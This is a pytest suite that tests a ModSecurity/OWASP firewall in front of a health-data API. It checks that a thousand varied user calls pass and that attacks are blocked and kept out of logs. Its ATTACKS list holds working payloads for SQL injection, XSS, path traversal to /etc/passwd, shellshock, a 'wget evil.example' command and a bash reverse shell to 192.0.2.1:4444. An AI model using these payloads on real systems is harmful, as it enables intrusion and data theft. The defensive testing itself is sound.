"""
ModSecurity with the OWASP core rule set, as waf.conf ships it: off unless
asked for.  People's words pass (a thousand calls as clients make them, at
most one blocked), attacks do not, bodies stay in memory, and no log says what
was in them.

A block is counted where it cannot be mistaken: in nginx's error log.  The
calls come from a seeded generator; which rule blocked what is in the failure.
"""

import json
import os
import random
import re

import pytest

from hmedge import Edge, json_lines
from hmhttp import BASE, Lost, problem, uuid7
from hmstack import PASSWORD, wait

BLOCK = re.compile(r'ModSecurity: Access denied[^\n]*')
RULES = "/usr/share/modsecurity-crs/rules"

pytestmark = pytest.mark.skipif(
    not os.path.isdir(RULES), reason="no modsecurity-crs")


@pytest.fixture(scope="module")
def walled(stack):
    with Edge(stack, waf=True, unlimited=True) as e:
        yield e


def blocks(e):
    return BLOCK.findall(e.log("error.log"))


NOTES = [
    "couldn't sleep, don't know why; it's the 3rd night",
    "O'Connor said: \"take 2 tablets, then 1\" -- see leaflet",
    "select a doctor from the list where possible; insert new appointment",
    "drop the table salt; union of both readings, order by time",
    "1=1? No: 70 or 71 or 1' or so, can't read it",
    "BP was > 140 and < 160 & pulse 90; <b>dizzy</b> <3",
    "<script> is what the page showed me; javascript: was off",
    "update my plan set for Monday, delete from calendar; -- thanks",
    "50% of the dose; 100% sure? (see ../report.pdf or C:\\Users\\me\\bp.txt)",
    "ran /bin/sh -c 5k ;) then cat & dog walk | 30 min `slow`",
    "Schwindelgefühl nach dem Aufstehen, ca. 3× täglich – größer als früher",
    "血圧が高い。頭が痛い。", "сильная головная боль после еды", "ضغط الدم مرتفع",
    "🙂🤒💊 38.5 °C ½ tablet", "naïve café résumé — “quoted” ‘text’",
    "line one\nline two\n\tindented; $HOME is where the heart is",
    "temp=38.5&pulse=90;user=me#mood", "{\"json\": [1, 2, \"in text\"]}",
    "http://example.org/diet?id=1 and https://nhs.uk/conditions/x",
    "exec summary: sleep(8), wait for 2 hours, benchmark(5) reps",
    "havin' a bad day 'cause of 'im; goin' to 'ospital",
    "echo test ordered; grep strength fine; ping my GP; kill the pain",
    "a or b and c having d group by e", "'; -- \" ) ( ;; /* note */ #",
    "system(2) nervous; eval by phone; base64 is not for me",
    "<img src=x> broken picture, onerror=nothing", "NULL; true; false; 0x41",
    "${name} forgot the template again {{greeting}} %s %n",
    "admin'-- was written on the label, password: forgot",
    "etc/passwd, boot.ini, .htaccess: what do these have to do with me?",
    "x' AND 1=1 UNION SELECT pills FROM box WHERE day='Mon'--",
]

NAMES = ["Seán O'Brien", "D'Arcy O’Neill", "Anne-Marie Dupont", "José Ñúñez",
         "Zoë Müller-Lüdenscheidt", "李小龙", "Владимир", "Robert'); Tables",
         "Null Union", "Mary Select", "Ng", "van der Order-By"]

METRICS = [("heart_rate", 71), ("weight", 80.25), ("steps", 9000),
           ("temperature", 37.1), ("respiratory_rate", 15)]


def calls(rnd, user, ids):
    """(method, path, document, headers) of one more call."""
    n = rnd.choice(NOTES) + (" " + rnd.choice(NOTES)
                             if rnd.random() < 0.4 else "")
    metric, value = rnd.choice(METRICS)
    rec = {"data_type": metric, "value": value, "notes": n,
           "source": rnd.choice(["manual", "apple_health", "device:omron-7"]),
           "source_id": "s-" + str(rnd.random())}
    when = "2026-0%d-1%dT07:%02d:00%s" % (
        rnd.randint(1, 9), rnd.randint(0, 9), rnd.randint(0, 59),
        rnd.choice(["Z", "+02:00", "-05:30"]))
    hd = BASE + "/health-data"
    one = hd + "/" + (rnd.choice(ids) if ids else uuid7())
    merge = [("Content-Type", "application/merge-patch+json")]
    kinds = [
        ("POST", hd, dict(rec, timestamp=when), []),
        ("POST", hd, rec, [("Idempotency-Key", '"k-%s\'"' % uuid7())]),
        ("POST", hd, {"data_type": "blood_pressure", "notes": n, "value": {
            "systolic": 121, "diastolic": 79}}, []),
        ("PATCH", one, {"notes": n}, merge),
        ("PATCH", one, {"notes": n}, [("If-Match", '"abc\'def=="')]),
        ("GET", one, None, [("If-None-Match", 'W/"x", "y"')]),
        ("HEAD", one, None, []),
        ("DELETE", hd + "/" + uuid7(), None, [("If-Match", "*")]),
        ("GET", hd + "?limit=50&order=asc&from=%s&to=%s" % (
            "2026-01-01T00:00:00%2B01:00", "2026-12-31T00:00:00Z"), None, []),
        ("GET", hd + "?data_type=heart_rate,weight,custom:my_scale", None,
         []),
        ("GET", hd + "?cursor=" + "AbC-_9" * 20, None, []),
        ("GET", hd + "/latest", None, []), ("GET", hd + "/types", None, []),
        ("GET", BASE + "/analytics/trends?metric=heart_rate&bucket=day"
         "&period=30d", None, []),
        ("GET", BASE + "/auth/me", None, []),
        ("PATCH", BASE + "/users/me", {"full_name": rnd.choice(NAMES),
                                       "phone": "+44 (0)20 7946-0018",
                                       "address": "1 St. John's Rd; flat #2"},
         merge),
        ("PUT", BASE + "/users/me/preferences", {
            "locale": "en-GB", "units": "metric",
            "time_zone": "America/Argentina/Buenos_Aires"}, []),
        ("PUT", BASE + "/users/me/health-profile", {
            "chronic_conditions": [n], "mental_health": n,
            "allergies": {"food": ["peanut's & nuts"], "drug": [n]},
            "emergency_contacts": [{"name": rnd.choice(NAMES)}]}, []),
        ("POST", BASE + "/chat/messages", {"message": n}, []),
        ("POST", BASE + "/symptoms", {
            "symptom": "headache", "severity": "mild", "triggers": [n],
            "description": n}, []),
        ("POST", BASE + "/medications", {
            "medication_name": "Co-codamol 30/500", "type": "prescription",
            "instructions": n, "side_effects": n, "schedule": {
                "times": ["08:00"], "as_needed": True,
                "time_zone": "Europe/Berlin"}}, []),
        ("POST", BASE + "/medications/" + uuid7() + "/doses", {
            "dose": "1/2", "status": "taken", "notes": n}, []),
        ("POST", BASE + "/goals", {"metric": "weight", "target": 80,
                                   "direction": "down"}, []),
        ("POST", BASE + "/webhooks", {
            "url": "https://hooks.example.org/in?key=1&x=2",
            "events": ["health_data.created"], "active": True}, []),
        ("POST", BASE + "/alerts/" + uuid7() + "/snooze", {
            "until": "2026-12-01T00:00:00Z"}, []),
        ("POST", BASE + "/chat/messages/" + uuid7() + "/feedback", {
            "rating": 1, "feedback_type": "not_helpful", "comment": n}, []),
        ("POST", BASE + "/tools/symptom-check", {
            "symptoms": ["chest pain", n], "severity": 3}, []),
        ("POST", BASE + "/tools/bmi", {"weight_kg": 80.5,
                                       "height_m": 1.8}, []),
        ("POST", BASE + "/auth/refresh", {
            "refresh_token": "AbC-_" * 30 + ".x'y"}, []),
        ("POST", BASE + "/auth/logout", None,
         [("Authorization", "Bearer a.b.c")]),
        ("GET", BASE + "/fhir/R4/Observation?patient=%s&code=http%%3A%%2F"
         "%%2Floinc.org%%7C8867-4&date=ge2026-01-01&_sort=-date&_count=50"
         % uuid7(), None, []),
        ("POST", BASE + "/fhir/R4/Observation", {
            "resourceType": "Observation", "status": "final", "code": {
                "coding": [{"system": "http://loinc.org",
                            "code": "8867-4", "display": "Heart rate"}],
                "text": n}, "valueQuantity": {
                "value": 70, "unit": "/min",
                "system": "http://unitsofmeasure.org"},
            "note": [{"text": n}]},
         [("Content-Type", "application/fhir+json")]),
        ("GET", BASE + "/analytics/charts/heart_rate.svg?period=1y", None,
         []),
        ("POST", BASE + "/appointments", {
            "with": "Dr. O'Hara", "place": "St. Mary's; room <2>",
            "reason": n, "at": when}, []),
        ("POST", BASE + "/break-glass", {"user_id": uuid7(),
                                         "reason": n}, []),
        ("POST", BASE + "/care-relationships", {
            "patient_id": uuid7(), "doctor_id": uuid7(),
            "until": "2027-01-01T00:00:00Z"}, []),
        ("POST", BASE + "/compliance/consents", {
            "purpose": "research", "granted": True}, []),
        ("POST", BASE + "/tools/drug-interactions", {
            "medications": ["aspirin", "St. John's wort"]}, []),
        ("GET", BASE + "/audit?user_id=%s&action=read" % uuid7(), None, []),
        ("GET", "/.well-known/security.txt", None, []),
        ("OPTIONS", hd, None, []),
        ("BATCH", hd + "/batch", [dict(rec, notes=x) for x in
                                  rnd.sample(NOTES, 4)], []),
        ("NDJSON", hd + "/batch", [dict(rec, notes=x) for x in
                                   rnd.sample(NOTES, 4)], []),
    ]
    if rnd.random() < 0.03:
        # Costly (a password is hashed), so not as often.
        return ("POST", BASE + "/auth/login", {
            "email": "o'%s@example.org" % uuid7(), "fingerprint": False,
            "password": rnd.choice([
                "' OR 1=1 --", "correct horse battery", "<script>x</script>",
                "$(cat /etc/passwd)", "p@ss'word\"; DROP", "密码密码密码密码"])},
            [])
    return rnd.choice(kinds)


def send(c, method, path, doc, headers):
    body, headers = None, list(headers)
    if method in ("BATCH", "NDJSON"):
        body = json.dumps(doc).encode() if method == "BATCH" else b"".join(
            json.dumps(x, ensure_ascii=False).encode() + b"\n" for x in doc)
        headers.append(("Content-Type", "application/json"
                        if method == "BATCH" else "application/x-ndjson"))
        method = "POST"
    elif doc is not None:
        body = json.dumps(doc, ensure_ascii=False).encode()
        if not any(k == "Content-Type" for k, _ in headers):
            headers.append(("Content-Type", "application/json"))
    headers.append(("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 "
                    "like Mac OS X) AppleWebKit/605.1.15"))
    headers.append(("Accept", "application/json, text/plain, */*"))
    return c.raw(method, path, body, headers)


def test_a_thousand_calls_pass(walled, user):
    rnd = random.Random(20260301)
    c = walled.client(user.token)
    ids, seen, statuses = [], {}, {}
    for _ in range(1000):
        call = calls(rnd, user, ids)
        r = send(c, *call)
        statuses[r.status] = statuses.get(r.status, 0) + 1
        seen.setdefault(call[1].split("?")[0][:40], r.status)
        if r.status == 201 and call[1].endswith("/health-data"):
            ids.append(r.json()["id"])
    got = blocks(walled)
    rules = [re.search(r'\[id "(\d+)"\]', x).group(1) for x in got]
    assert len(got) <= 1, (len(got), rules, got[:3], statuses)
    # They came through to the module, body and all.
    assert statuses.get(201, 0) > 40 and statuses.get(500, 0) == 0, statuses
    assert len(seen) > 25, seen


@pytest.mark.parametrize("i", range(len(NOTES)))
def test_every_note_comes_back_as_it_was(walled, user, i):
    c = walled.client(user.token)
    r = send(c, "POST", BASE + "/health-data", {
        "data_type": "heart_rate", "value": 60, "notes": NOTES[i]}, [])
    assert r.status in (200, 201), r
    r = c.get("/health-data/" + r.json()["id"])
    assert r.json()["notes"] == NOTES[i]


def test_http2_passes_too(walled, user):
    from test_edge_wire import H2
    c = H2(walled.https)
    auth = [("authorization", "Bearer " + user.token),
            ("content-type", "application/json"),
            ("user-agent", "HealthMate/1.0 (Android 14)"),
            ("accept", "application/json")]
    assert c.get(BASE + "/auth/me", more=auth)["status"] == 200
    n = c.head(BASE + "/health-data", "POST", end=False, more=auth)
    c.c.send_data(n, json.dumps({
        "data_type": "heart_rate", "value": 60,
        "notes": NOTES[2]}).encode(), end_stream=True)
    c.flush()
    c.pump(lambda: c.streams.get(n, {}).get("end"))
    assert c.streams[n]["status"] in (200, 201), c.streams[n]
    c.close()


HD = BASE + "/health-data"
ATTACKS = [
    ("sqli in a query", "GET", HD + "?source=1'%20OR%20'1'='1", None, []),
    ("union in a query", "GET", HD + "?data_type=x'%20UNION%20SELECT%20"
     "password_hash%20FROM%20users--", None, []),
    ("blind sqli", "GET", HD + "?limit=1;SELECT%20pg_sleep(5)--", None, []),
    ("xss in a query", "GET", HD + "?source=%3Cscript%3Ealert(1)"
     "%3C/script%3E", None, []),
    ("xss by an event", "GET", HD + "?source=%22%3E%3Cimg%20src=x%20onerror="
     "alert(1)%3E", None, []),
    ("traversal in a query", "GET", HD + "?source=../../../../etc/passwd",
     None, []),
    ("traversal encoded", "GET", HD + "?source=%2e%2e%2f%2e%2e%2f%2e%2e%2f"
     "etc%2fshadow", None, []),
    ("command in a query", "GET", HD + "?source=;cat%20/etc/passwd", None,
     []),
    ("command by backticks", "GET", HD + "?source=`wget%20http://evil.example"
     "/x`", None, []),
    ("remote file", "GET", HD + "?source=http://192.0.2.1/evil.php?", None,
     []),
    ("php wrapper", "GET", HD + "?source=php://input", None, []),
    ("java", "GET", HD + "?source=java.lang.Runtime.getRuntime().exec('id')",
     None, []),
    ("shellshock", "GET", HD, None, [("X-Custom",
                                      "() { :; }; /bin/bash -c 'id'")]),
    ("a scanner", "GET", HD, None, [("User-Agent", "sqlmap/1.7.2#stable")]),
    ("another scanner", "GET", HD, None, [("User-Agent",
                                            "Mozilla/5.00 (Nikto/2.1.6)")]),
    ("sqli in a member", "POST", HD, {
        "data_type": "heart_rate' UNION SELECT password FROM users--",
        "value": 70}, []),
    ("xss in a member", "POST", HD, {
        "data_type": "heart_rate", "value": 70,
        "source": "<script>alert(document.cookie)</script>"}, []),
    ("command in a member", "POST", HD, {
        "data_type": "heart_rate", "value": 70,
        "source_id": "x; /bin/bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}, []),
    ("sqli in an unknown member", "POST", BASE + "/auth/login", {
        "email": "a@example.org", "password": PASSWORD,
        "role": "admin' OR '1'='1' --"}, []),
    ("sqli in an address", "POST", BASE + "/auth/login", {
        "email": "a' OR 1=1 UNION SELECT null,null--@x", "password": "x"},
     []),
    ("sqli in a cookie", "GET", HD, None, [
        ("Cookie", "session=1' OR '1'='1' UNION SELECT 1,2,3--")]),
    ("header splitting", "GET", HD + "?source=a%0d%0aSet-Cookie:%20x=y%0d%0a"
     "Location:%20http://evil", None, []),
    ("a git folder", "GET", HD + "/.git/config", None, []),
    ("an environment file", "GET", HD + "/.env", None, []),
    ("form data with a body", "POST", HD, None, [
        ("Content-Type", "application/x-httpd-php")]),
]


@pytest.mark.parametrize("name,method,path,doc,headers", ATTACKS,
                         ids=[a[0] for a in ATTACKS])
def test_attacks_are_blocked(walled, user, name, method, path, doc, headers):
    n = len(blocks(walled))
    c = walled.client(user.token)
    hs = list(headers)
    if not any(k == "User-Agent" for k, _ in hs):
        hs.append(("User-Agent", "Mozilla/5.0"))
    hs.append(("Accept", "*/*"))
    body = json.dumps(doc).encode() if doc is not None else (
        b"<?php system('id');" if method == "POST" else None)
    if doc is not None:
        hs.append(("Content-Type", "application/json"))
    r = c.raw(method, path, body, hs)
    problem(r, 403, "access.denied")
    wait(lambda: len(blocks(walled)) > n, 5)


def test_blocked_words_pass_without_the_firewall(stack, user):
    """The default: none of this is the API's own business."""
    with Edge(stack, unlimited=True) as e:
        c = e.client(user.token)
        for name, method, path, doc, headers in ATTACKS[:16]:
            r = send(c, method, path, doc, headers)
            assert r.status in (200, 400, 404, 422), (name, r)


def test_sizes_with_the_firewall(walled, user):
    """A body up to the limit is read whole and in memory."""
    c = walled.client(user.token)
    doc = {"data_type": "heart_rate", "value": 60, "notes": "x" * 9000}
    assert send(c, "POST", HD, doc, []).status in (200, 201)
    big = json.dumps(dict(doc, pad="y" * 1000000)).encode()
    r = c.raw("POST", HD, big, [("Content-Type", "application/json")])
    assert r.status == 422, r
    try:
        r = c.raw("POST", HD, big + b" " * 100000, [
            ("Content-Type", "application/json")])
        problem(r, 413, "request.too_large")
    except Lost:
        pass
    r = c.raw("POST", HD, b"{not json", [
        ("Content-Type", "application/json")])
    assert r.status in (400, 403), r
    lines = "".join(json.dumps({"data_type": "steps", "value": i,
                                "source_id": str(i)}) + "\n"
                    for i in range(3000)).encode()
    r = c.raw("POST", HD + "/batch", lines, [
        ("Content-Type", "application/x-ndjson")])
    assert r.status == 200 and json.loads(
        r.text.splitlines()[-1])["total"] == 3000
    assert not [f for _, _, fs in os.walk(walled.top + "/temp") for f in fs]


def test_logs_do_not_have_what_was_blocked(walled, user):
    canary = "canary" + os.urandom(5).hex()
    c = walled.client(user.token)
    c.raw("GET", HD + "?source=%s'%%20OR%%20'1'='1" % canary)
    send(c, "POST", HD, {"data_type": canary + "' UNION SELECT 1,2 FROM a--",
                         "value": 1, "notes": canary}, [])
    send(c, "POST", BASE + "/auth/login", {
        "email": canary + "' OR 1=1 UNION SELECT null--", "password":
        canary}, [("Cookie", "a=%s' OR '1'='1' --" % canary)])
    n = len(blocks(walled))
    send(c, "GET", HD + "?source=<script>", None, [
        ("X-Request-ID", "waf-end")])
    wait(lambda: len(blocks(walled)) > n, 5)
    wait(lambda: "waf-end" in walled.log("access.log"), 5)
    assert canary not in walled.everything(), [
        x for x in walled.everything().splitlines() if canary in x][:2]
    assert user.token not in walled.everything()
    json_lines(walled.log("access.log"))
